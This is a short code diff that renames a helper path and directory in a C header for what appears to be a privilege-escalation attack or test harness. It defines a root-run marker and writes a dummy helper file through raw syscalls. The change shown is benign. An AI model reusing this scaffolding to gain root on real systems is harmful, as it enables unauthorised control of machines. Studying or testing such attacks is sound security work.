@@ -7,7 +7,7 @@
 #pragma once
 #include "attack.h"
 
-#define HELPER "/work/helper"
+#define HELPER "/jobs/helper"
 #define MINE "/tmp/mine"
 #define ROOT_RAN_IT 77
 
@@ -63,7 +63,7 @@ static inline void make_helper(void)
 {
 	long file;
 
-	call2(__NR_mkdir, (long)"/work", 0755);
+	call2(__NR_mkdir, (long)"/jobs", 0755);
 	file = call3(__NR_open, (long)HELPER, O_CREAT | O_WRONLY, 0755);
 	call3(__NR_write, file, (long)"nothing", 7);
 	call1(__NR_close, file);
